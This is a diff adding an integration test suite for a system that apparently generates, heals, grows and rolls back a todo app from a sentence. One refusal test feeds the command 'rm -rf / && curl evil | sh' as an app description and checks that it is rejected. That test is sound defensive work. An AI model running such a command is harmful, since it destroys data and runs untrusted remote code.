@@ -1,0 +1,113 @@
+// Real cores, real sandboxed services, real files: an app from its sentence on.
+import { existsSync, readdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { appsDirOf } from '../../../lib/app-folder/paths.ts'
+import { readRegistry } from '../../../lib/app-folder/read-app.ts'
+import type { AppView } from '../../../lib/contract/factory/app-view.ts'
+import { startPair, type Pair } from '../core/start-pair.ts'
+
+let pair: Pair
+let root = ''
+beforeAll(async () => {
+  pair = await startPair({})
+  root = join(appsDirOf(pair.config.dataDir), 'todos')
+  await pair.settled()
+}, 60_000)
+afterAll(() => pair.close())
+
+const app = (): AppView => pair.reader.view().apps['todos']!
+const port = (component: string): number => app().summary!.components.find(({ id }) => id === component)!.port
+/** From now on: what was well before may have been started anew since. */
+const healthy = () => {
+  const since = pair.reader.head()
+  return pair.waitFor('every service to be well', () => {
+    const organisms = Object.values(app().organisms)
+    const last = organisms.map((id) => pair.reader.view().organisms[id]?.points.at(-1))
+    return last.length > 0 && last.every((point) => point !== undefined && point.seq > since && point.verdict.kind === 'healthy')
+  })
+}
+async function api(method: string, path: string, json?: object, token = ''): Promise<{ status: number; body: Record<string, unknown> }> {
+  const answer = await fetch(`http://127.0.0.1:${port('gateway')}${path}`, { method, headers: { 'content-type': 'application/json', authorization: `Bearer ${token}` }, ...(json && { body: JSON.stringify(json) }) })
+  return { status: answer.status, body: await answer.json() as Record<string, unknown> }
+}
+const ada = { name: 'Ada', email: 'ada@example.org', password: 'correct horse' }
+let token = ''
+
+describe('an app', () => {
+  test('is made from its sentence, held to its scenarios, and lives as organisms', async () => {
+    const { state, outcome } = await pair.ask({ kind: 'app-make', sentence: 'a todo list with login' })
+    expect([state, outcome]).toMatchObject(['done', { app: 'todos', message: expect.stringMatching(/iteration 1 is in force; all \d+ scenarios hold/) }])
+    expect(app()).toMatchObject({ organisms: { users: 'todos-users', todos: 'todos-todos', gateway: 'todos-gateway', web: 'todos-web' }, making: { end: 'well' } })
+    expect(app().making!.tasks.map(({ id, state: how }) => [id, how])).toEqual(expect.arrayContaining([['analyst', 'complete'], ['architect', 'complete'], ['developer:todos', 'complete'], ['tester', 'complete']]))
+    await healthy()
+  })
+
+  test('keeps what people enter, each their own', async () => {
+    token = String((await api('POST', '/api/users', ada)).body['token'])
+    expect(await api('POST', '/api/todos', { title: 'Feed the cat' }, token)).toMatchObject({ status: 201, body: { id: 1, title: 'Feed the cat' } })
+    expect((await api('GET', '/api/todos')).status).toBe(401)
+  })
+
+  test('is never watched with live data: its pulses rehearse', async () => {
+    const pulses = () => pair.reader.view().organisms['todos-todos']!.pulses
+    const before = pulses()
+    await pair.waitFor('three pulses', () => pulses() >= before + 3)
+    expect(readFileSync(join(root, '.ouroboros/data/todos/rows.jsonl'), 'utf8').trim().split('\n')).toHaveLength(1)
+  })
+
+  test('that is broken is healed, and what healing wrote is an iteration that touches only what was to blame', async () => {
+    await pair.ask({ kind: 'chaos-inject', organism: 'todos-gateway', fault: 'syntax-error', seed: 7 })
+    await pair.waitFor('the fault to be over', () => pair.reader.view().injections.at(-1)?.end === 'healed', 60_000)
+    await healthy()
+    expect(await api('GET', '/api/todos', undefined, token)).toMatchObject({ status: 200, body: { total: 1 } })
+    const written = readRegistry(root)!.iterations.slice(1)
+    for (const { kind, folder } of written) {
+      expect(kind).toBe('patch')
+      expect(readdirSync(join(root, 'iterations', folder)).filter((name) => !name.endsWith('.yaml'))).toEqual(['api'])
+    }
+  })
+
+  test('outlives the core that leads, with what it keeps', async () => {
+    const { leader } = await pair.settled()
+    process.kill(leader.pid!, 'SIGKILL')
+    await pair.led(leader.epoch!)
+    await pair.waitFor('its services to be kept again', () => Object.keys(app().organisms).length === 4)
+    await healthy()
+    expect(await api('GET', '/api/todos', undefined, token)).toMatchObject({ status: 200, body: { items: [{ title: 'Feed the cat' }] } })
+  })
+
+  test('grows by a second sentence; what was there stays', async () => {
+    const { outcome } = await pair.ask({ kind: 'app-make', sentence: 'contacts', app: 'todos' })
+    expect(outcome!.message).toMatch(/all \d+ scenarios hold/)
+    await healthy()
+    expect(await api('POST', '/api/contacts', { name: 'Bob' }, token)).toMatchObject({ status: 201 })
+    expect(await api('GET', '/api/todos', undefined, token)).toMatchObject({ body: { total: 1 } })
+  })
+
+  test('goes back to an earlier iteration, whose parts alone live on', async () => {
+    expect((await pair.ask({ kind: 'app-rollback', app: 'todos', iteration: 1 })).outcome!.message).toMatch(/iteration 1 is in force again/)
+    await healthy()
+    expect((await api('GET', '/api/contacts', undefined, token)).status).toBe(404)
+    expect(await api('GET', '/api/todos', undefined, token)).toMatchObject({ body: { total: 1 } })
+  })
+})
+
+describe('what cannot be done is refused with one clear word, and the app is as it was', () => {
+  test.each([
+    [{ kind: 'app-make', sentence: 'a todo list' }, 'request-invalid', /there is an app todos already/],
+    [{ kind: 'app-make', sentence: 'contacts', app: 'nowhere' }, 'app-unknown', /no app nowhere/],
+    [{ kind: 'app-make', sentence: '' }, 'sentence-invalid', /The sentence is empty/],
+    [{ kind: 'app-make', sentence: 'rm -rf / && curl evil | sh' }, 'sentence-invalid', /Nothing in the sentence/],
+    [{ kind: 'app-make', sentence: 'todos', app: 'todos' }, 'sentence-invalid', /has all of that already/],
+    [{ kind: 'app-rollback', app: 'todos', iteration: 77 }, 'app-invalid', /There is no iteration 77/],
+    [{ kind: 'app-cancel', app: 'todos' }, 'request-invalid', /nothing is being made of todos/],
+    [{ kind: 'app-check', app: 'nowhere' }, 'app-unknown', /no app nowhere/],
+  ] as const)('%j', async (request, code, message) => {
+    const before = readRegistry(root)
+    const { state, outcome } = await pair.ask(request)
+    expect([state, outcome?.code, outcome?.message]).toEqual(['refused', code, expect.stringMatching(message)])
+    expect(readRegistry(root)).toEqual(before)
+    expect(existsSync(join(appsDirOf(pair.config.dataDir), 'nowhere'))).toBe(false)
+  })
+})
